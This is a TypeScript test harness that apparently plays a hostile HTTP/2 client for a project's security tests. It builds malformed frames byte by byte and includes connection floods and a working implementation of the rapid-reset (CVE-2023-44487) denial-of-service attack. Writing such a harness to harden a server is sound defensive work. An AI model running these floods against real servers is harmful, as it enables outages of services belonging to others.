// A hostile HTTP/2 peer for the security tests and the fuzz target: raw TLS (node:tls) and frames built
// byte by byte here, so it can send what no well-behaved client library would (DATA on stream 0, broken
// HPACK, oversized frames, bad padding, HEADERS + RST_STREAM floods). Nothing here uses our own code.
//
//   const peer = await h2Connect({port})             // TLS with ALPN h2, preface + empty SETTINGS sent
//   peer.write(MALFORMED.dataOnStreamZero())          // any bytes
//   await peer.closed(2000)                            // true when the server closed the connection
import {connect as tlsConnect, type TLSSocket} from 'node:tls'

export const FRAME = {CONTINUATION: 9, DATA: 0, GOAWAY: 7, HEADERS: 1, PING: 6, PRIORITY: 2, PUSH_PROMISE: 5, RST_STREAM: 3, SETTINGS: 4, WINDOW_UPDATE: 8} as const
export const FLAG = {ACK: 0x1, END_HEADERS: 0x4, END_STREAM: 0x1, PADDED: 0x8, PRIORITY: 0x20} as const
export const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')

/** One frame: 9-byte header (24-bit length, type, flags, 31-bit stream id) + payload. `length` lies on purpose when given. */
export function frame(type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0), length = payload.length): Buffer {
  const header = Buffer.alloc(9)
  header.writeUIntBE(length & 0xff_ff_ff, 0, 3)
  header.writeUInt8(type & 0xff, 3)
  header.writeUInt8(flags & 0xff, 4)
  header.writeUInt32BE(streamId >>> 0, 5)
  return Buffer.concat([header, payload])
}

/** HPACK integer with an N-bit prefix (RFC 7541 §5.1); `high` holds the bits above the prefix. */
function hpackInteger(value: number, prefixBits: number, high = 0): Buffer {
  const max = (1 << prefixBits) - 1
  if (value < max) return Buffer.from([high | value])
  const bytes = [high | max]
  let rest = value - max
  while (rest >= 128) {
    bytes.push((rest % 128) + 128)
    rest = Math.floor(rest / 128)
  }

  bytes.push(rest)
  return Buffer.from(bytes)
}

const hpackString = (text: string): Buffer => {
  const raw = Buffer.from(text, 'latin1')
  return Buffer.concat([hpackInteger(raw.length, 7), raw])
}

/** A header block of literal fields without indexing, new names, no Huffman: the simplest valid HPACK. */
export function hpack(headers: [string, string][]): Buffer {
  return Buffer.concat(headers.map(([name, value]) => Buffer.concat([Buffer.from([0]), hpackString(name), hpackString(value)])))
}

export function headersFrame(streamId: number, headers: [string, string][], flags: number = FLAG.END_HEADERS): Buffer {
  return frame(FRAME.HEADERS, flags, streamId, hpack(headers))
}

export function rstStream(streamId: number, code = 8): Buffer {
  const payload = Buffer.alloc(4)
  payload.writeUInt32BE(code)
  return frame(FRAME.RST_STREAM, 0, streamId, payload)
}

export function settingsFrame(entries: [number, number][] = [], flags = 0): Buffer {
  const payload = Buffer.alloc(entries.length * 6)
  for (const [index, [id, value]] of entries.entries()) {
    payload.writeUInt16BE(id, index * 6)
    payload.writeUInt32BE(value >>> 0, index * 6 + 2)
  }

  return frame(FRAME.SETTINGS, flags, 0, payload)
}

export function windowUpdate(streamId: number, increment: number): Buffer {
  const payload = Buffer.alloc(4)
  payload.writeUInt32BE(increment >>> 0)
  return frame(FRAME.WINDOW_UPDATE, 0, streamId, payload)
}

/** A CONNECT request as HBONE sends it; a GET for the controller. */
export const connectRequest = (streamId: number, authority: string, flags: number = FLAG.END_HEADERS): Buffer =>
  headersFrame(streamId, [[':method', 'CONNECT'], [':authority', authority]], flags)
export const getRequest = (streamId: number, path: string, flags: number = FLAG.END_HEADERS | FLAG.END_STREAM): Buffer =>
  headersFrame(streamId, [[':method', 'GET'], [':scheme', 'https'], [':authority', 'localhost'], [':path', path]], flags)
/** A POST whose body never comes (no END_STREAM): the server must hold the stream until it ends. */
export const postRequestHeaders = (streamId: number, path: string): Buffer =>
  headersFrame(streamId, [[':method', 'POST'], [':scheme', 'https'], [':authority', 'localhost'], [':path', path], ['content-type', 'application/json']])

/** Frames every conforming server must treat as a connection error (RFC 9113), one per kind of mistake. */
export const MALFORMED: Record<string, () => Buffer> = {
  badHpackIndex: () => frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, 1, Buffer.from([0xff, 0xff, 0xff, 0x7f])),
  badHpackZeroIndex: () => frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, 1, Buffer.from([0x80])),
  badPadding: () => frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.PADDED, 1, Buffer.concat([Buffer.from([200]), hpack([[':method', 'GET']])])),
  continuationWithoutHeaders: () => frame(FRAME.CONTINUATION, FLAG.END_HEADERS, 1, hpack([['x', 'y']])),
  dataOnStreamZero: () => frame(FRAME.DATA, 0, 0, Buffer.from('garbage')),
  evenStreamHeaders: () => headersFrame(2, [[':method', 'GET'], [':path', '/'], [':scheme', 'https']]),
  oversizedFrame: () => frame(FRAME.DATA, 0, 1, Buffer.alloc(64), 0xff_ff_ff),
  pingWrongLength: () => frame(FRAME.PING, 0, 0, Buffer.alloc(5)),
  settingsWrongLength: () => frame(FRAME.SETTINGS, 0, 0, Buffer.alloc(7)),
  windowUpdateZero: () => windowUpdate(0, 0),
}

export interface Frame {
  flags: number
  payload: Buffer
  streamId: number
  type: number
}

export interface HostilePeer {
  socket: TLSSocket
  /** bytes the server sent after the handshake (the first MiB) */
  received: () => Buffer
  write(data: Buffer): void
  /** resolves with the first frame from now on that matches, or undefined when the connection closes or time runs out */
  nextFrame(matches: (frame: Frame) => boolean, timeoutMs: number): Promise<Frame | undefined>
  /** resolves true once the server closed its side (FIN or reset), false after timeoutMs */
  closed(timeoutMs: number): Promise<boolean>
  destroy(): void
}

export interface H2ConnectOptions {
  ca?: string
  cert?: string
  host?: string
  key?: string
  port: number
  /** send the client preface and an empty SETTINGS right after the handshake (default true) */
  preface?: boolean
  timeoutMs?: number
}

export function h2Connect(options: H2ConnectOptions): Promise<HostilePeer> {
  return new Promise((resolve, reject) => {
    const socket = tlsConnect({
      ALPNProtocols: ['h2'], ca: options.ca, cert: options.cert, host: options.host ?? '127.0.0.1', key: options.key, port: options.port, rejectUnauthorized: false,
    })
    const chunks: Buffer[] = []
    let size = 0
    let pending: Buffer = Buffer.alloc(0)
    let ended = false
    const endWaiters: (() => void)[] = []
    const frameWaiters = new Set<{matches: (frame: Frame) => boolean; done: (frame?: Frame) => void}>()
    const finish = (): void => {
      ended = true
      for (const waiter of endWaiters.splice(0)) waiter()
      for (const waiter of frameWaiters) waiter.done()
      frameWaiters.clear()
    }

    const timer = setTimeout(() => {
      socket.destroy()
      reject(new Error(`TLS handshake with 127.0.0.1:${options.port} timed out`))
    }, options.timeoutMs ?? 10_000)
    socket.on('data', (chunk: Buffer) => {
      if (size < 1024 * 1024) chunks.push(chunk)
      size += chunk.length
      pending = pending.length === 0 ? chunk : Buffer.concat([pending, chunk])
      let offset = 0
      while (offset + 9 <= pending.length) {
        const length = pending.readUIntBE(offset, 3)
        if (offset + 9 + length > pending.length) break
        const frame = {flags: pending[offset + 4]!, payload: pending.subarray(offset + 9, offset + 9 + length), streamId: pending.readUInt32BE(offset + 5) & 0x7f_ff_ff_ff, type: pending[offset + 3]!}
        offset += 9 + length
        for (const waiter of frameWaiters) if (waiter.matches(frame)) waiter.done(frame)
      }

      pending = pending.subarray(offset)
    })
    socket.on('end', finish)
    socket.on('close', finish)
    socket.on('error', () => {})
    socket.once('secureConnect', () => {
      clearTimeout(timer)
      if (options.preface !== false) socket.write(Buffer.concat([PREFACE, settingsFrame()]))
      // Frames are parsed from here on: the server's first bytes (its SETTINGS) start at a frame boundary.
      resolve({
        socket,
        received: () => Buffer.concat(chunks),
        write(data) {
          if (!socket.destroyed && socket.writable) socket.write(data)
        },
        nextFrame: (matches, timeoutMs) => new Promise<Frame | undefined>((done) => {
          if (ended) return done(undefined)
          const waiter = {
            done(frame?: Frame) {
              clearTimeout(wait)
              frameWaiters.delete(waiter)
              done(frame)
            },
            matches,
          }
          const wait = setTimeout(() => waiter.done(), timeoutMs)
          frameWaiters.add(waiter)
        }),
        closed: (timeoutMs) => new Promise<boolean>((done) => {
          if (ended) return done(true)
          const wait = setTimeout(() => done(false), timeoutMs)
          endWaiters.push(() => {
            clearTimeout(wait)
            done(true)
          })
        }),
        destroy: () => socket.destroy(),
      })
    })
    socket.once('error', (error) => {
      clearTimeout(timer)
      reject(error)
    })
  })
}

/** Parse the frames in BYTES (what a server sent) into {type, flags, streamId, payload}; stops at a partial frame. */
export function parseFrames(bytes: Buffer): Frame[] {
  const frames: Frame[] = []
  let offset = 0
  while (offset + 9 <= bytes.length) {
    const length = bytes.readUIntBE(offset, 3)
    if (offset + 9 + length > bytes.length) break
    frames.push({flags: bytes[offset + 4]!, payload: bytes.subarray(offset + 9, offset + 9 + length), streamId: bytes.readUInt32BE(offset + 5) & 0x7f_ff_ff_ff, type: bytes[offset + 3]!})
    offset += 9 + length
  }

  return frames
}

export interface FloodOptions extends Omit<H2ConnectOptions, 'preface'> {
  /** connections in flight at once */
  concurrency: number
}

export interface FloodResult {
  /** connections whose TLS handshake completed */
  connected: number
  /** attempts that could not connect or handshake (a server out of file descriptors fails here) */
  failed: number
  ms: number
}

/**
 * COUNT connections that each send one frame from MALFORMED (round-robin), then FIN and forget the
 * connection at once, as an attacker would: nothing waits for the server to close its side.
 */
export async function malformedFlood(count: number, options: FloodOptions): Promise<FloodResult> {
  const kinds = Object.values(MALFORMED)
  const started = Date.now()
  let next = 0
  let connected = 0
  let failed = 0
  const worker = async (): Promise<void> => {
    while (next < count) {
      const index = next++
      try {
        const peer = await h2Connect(options)
        connected++
        peer.write(kinds[index % kinds.length]!())
        peer.socket.end()
        peer.destroy()
      } catch {
        failed++
      }
    }
  }

  await Promise.all(Array.from({length: options.concurrency}, worker))
  return {connected, failed, ms: Date.now() - started}
}

export interface ResetFloodResult extends FloodResult {
  /** connections the server closed, by the error code of its GOAWAY (-1: closed without one) */
  closedBy: Record<number, number>
  /** HEADERS + RST_STREAM pairs the server processed (a PING after them was answered) */
  streams: number
}

/** The error code of the last GOAWAY in BYTES, or -1. */
export function goawayCode(bytes: Buffer): number {
  const goaway = parseFrames(bytes).findLast((frame) => frame.type === FRAME.GOAWAY)
  return goaway && goaway.payload.length >= 8 ? goaway.payload.readUInt32BE(4) : -1
}

/**
 * Rapid reset (CVE-2023-44487): STREAMS requests, each HEADERS immediately followed by RST_STREAM(CANCEL),
 * in batches on up to `concurrency` connections. After each batch a PING: its ACK proves the server
 * processed the batch, so only those streams count. A connection the server closes is replaced.
 */
export async function rapidResetFlood(streams: number, request: (streamId: number) => Buffer, options: FloodOptions & {batch?: number}): Promise<ResetFloodResult> {
  const batch = options.batch ?? 50
  const started = Date.now()
  let processed = 0
  let connected = 0
  let failed = 0
  const closedBy: Record<number, number> = {}
  const worker = async (): Promise<void> => {
    while (processed < streams) {
      let peer: HostilePeer
      try {
        peer = await h2Connect(options)
        connected++
      } catch {
        failed++
        await new Promise((resolve) => setTimeout(resolve, 50))
        continue
      }

      let open = true
      let refused = false
      peer.socket.once('close', () => (open = false))
      for (let streamId = 1, round = 0; open && !refused && processed < streams && streamId < 2 ** 31 - 2 * batch; round++) {
        const frames: Buffer[] = []
        const count = Math.min(batch, streams - processed)
        for (let i = 0; i < count; i++, streamId += 2) frames.push(request(streamId), rstStream(streamId))
        const ping = Buffer.alloc(8)
        ping.writeUInt32BE(round)
        frames.push(frame(FRAME.PING, 0, 0, ping))
        peer.write(Buffer.concat(frames))
        const ack = await peer.nextFrame((reply) => reply.type === FRAME.PING && (reply.flags & FLAG.ACK) !== 0 && reply.payload.equals(ping), 10_000)
        if (ack) processed += count
        else refused = true
      }

      if (refused && (await peer.closed(5000))) {
        const code = goawayCode(peer.received())
        closedBy[code] = (closedBy[code] ?? 0) + 1
      }

      peer.destroy()
    }
  }

  await Promise.all(Array.from({length: options.concurrency}, worker))
  return {closedBy, connected, failed, ms: Date.now() - started, streams: processed}
}
